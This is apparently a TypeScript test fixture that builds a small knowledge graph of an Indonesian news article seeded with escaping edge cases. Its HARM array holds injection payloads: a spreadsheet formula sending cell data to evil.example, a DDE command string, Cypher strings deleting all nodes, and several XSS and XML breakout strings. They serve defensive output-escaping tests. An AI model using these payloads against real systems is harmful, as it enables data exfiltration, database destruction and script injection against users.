// A small graph whose article means harm: every way out of a cell, a string, a tag and a line that a format has.
import type { ArticleRecord, GraphEntity, GraphLink, KnowledgeGraph, Span } from "../../../src/model/index.ts";

/** What an article may hold; each breaks out of some format if it is written as it stands. */
export const HARM = [
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'}] AS row MATCH (n) DETACH DELETE n; //",
  "\\u0027}] AS row MATCH (n) DETACH DELETE n; //",
  "\\",
  `" . <urn:x> <urn:y> "z`,
  "</script><script>document.title='owned'</script><!--<script>",
  "]]></data><node id='x'/>&amp;&#0;",
  "![pixel](http://evil.example/p.png) [x](javascript:alert(1)) <img src=x onerror=alert(1)> `code` **bold** $1 $& $`",
  "www.evil.example http://evil.example mail@evil.example",
  "tab\tvertical\u000bfeed\fnull\u0000 del\u007f line\u2028paragraph\u2029 emoji 🦉 عربي",
] as const;

const WORDS = `Rusia dan Ana.\n\n${HARM.map((harm) => `“${harm}” kata Ana di Rusia.`).join("\n")}\n# 1. Budi bertemu Ana di Rapat.`;
const at = (words: string, from = 0): Span => {
  const start = WORDS.indexOf(words, from);
  if (start < 0) throw new Error(`The text does not hold “${words}”.`);
  return { start, end: start + words.length };
};

const entity = (id: string, label: string, more: Partial<GraphEntity> = {}): GraphEntity => ({
  id,
  type: id.slice(0, id.indexOf(":")) as GraphEntity["type"],
  label,
  labels: {},
  aliases: [],
  mentions: 1,
  articles: [0],
  quotesBy: 0,
  quotesAbout: 0,
  confidence: 1,
  reasons: [],
  importance: 0.25,
  community: 0,
  x: 1.5,
  y: -2,
  ...more,
});

const link = (kind: GraphLink["kind"], source: string, target: string, more: Partial<GraphLink> = {}): GraphLink => ({
  id: `${kind}:${source}|${target}`,
  kind,
  source,
  target,
  sentences: 1,
  paragraphs: 1,
  articles: [0],
  weight: 1,
  npmi: 0,
  ...more,
});

const quotes = HARM.map((harm, n): ArticleRecord["quotes"][number] => ({
  ...at(harm),
  kind: "direct",
  speaker: n === 1 ? null : "person:ana",
  cue: "kata",
  cueClass: "said",
  about: n === 0 ? ["country:RU", "person:budi"] : n === 1 ? ["person:budi"] : [],
}));

const meeting = at("Budi bertemu Ana di Rapat");
const first = at("Rusia dan Ana.");

const record: ArticleRecord = {
  id: "a/1 #x",
  text: WORDS,
  aside: [],
  sentences: [first, meeting],
  mentions: [
    { entity: "country:RU", ...at("Rusia"), as: "name" },
    { entity: "person:ana", ...at("Ana"), as: "name" },
    { entity: "person:budi", ...at("Budi"), as: "name" },
    { entity: "person:ana", ...at("Ana", meeting.start), as: "name" },
    { entity: "event:rapat", ...at("Rapat"), as: "name" },
  ],
  quotes,
  roles: [{ person: "person:ana", label: "kata Ana", country: "country:RU", ...at("kata Ana") }],
  evidence: [
    { link: 0, scope: "sentence", ...first, source: at("Rusia"), target: at("Ana") },
    { link: 1, scope: "sentence", ...meeting, source: at("Rapat"), target: at("Budi") },
    { link: 2, scope: "quote", ...at(HARM[0]), source: at("Ana", first.end), target: at(HARM[0]), quote: 0 },
    { link: 4, scope: "sentence", ...meeting, source: at("Ana", meeting.start), target: at("Budi") },
  ],
};

const plain: ArticleRecord = {
  ...record,
  id: "b",
  text: "Ana.",
  sentences: [{ start: 0, end: 4 }],
  mentions: [{ entity: "person:ana", start: 0, end: 3, as: "name" }],
  quotes: [],
  roles: [],
  evidence: [],
};

export const GRAPH: KnowledgeGraph = {
  version: 1,
  articles: [
    { id: "a/1 #x", title: HARM[6], date: "1949", source: HARM[8], language: "id", url: 'http://x.example/"><b>' },
    {
      id: "b",
      report: "a/1 #x",
      title: "-1+1",
      date: "1950-02",
      source: "",
      language: "id",
      url: "https://news.example/b?x=1&y=2",
    },
  ],
  entities: [
    entity("person:ana", "Ana", { aliases: [...HARM], mentions: 3, articles: [0, 1], quotesBy: 10, importance: 1 }),
    entity("country:RU", "Rusia", { labels: { id: "Rusia", en: "Russia" }, quotesAbout: 1, x: 0, y: 0 }),
    entity("person:budi", '+Budi & "Co" <b>', { quotesAbout: 2, importance: 0 }),
    entity("event:rapat", "Rapat", { kind: "meeting", date: "1949-05", place: { label: HARM[1] }, community: 1 }),
  ],
  links: [
    link("comention", "country:RU", "person:ana", { weight: 3.5, npmi: -0.25 }),
    link("participant", "event:rapat", "person:budi"),
    link("quote", "person:ana", "country:RU", { npmi: 0 }),
    link("role", "person:ana", "country:RU", { labels: [HARM[2], "=1+1"] }),
    link("comention", "person:ana", "person:budi", { weight: 0.5, npmi: 1 }),
  ],
  notices: [],
  records: [record, plain],
};
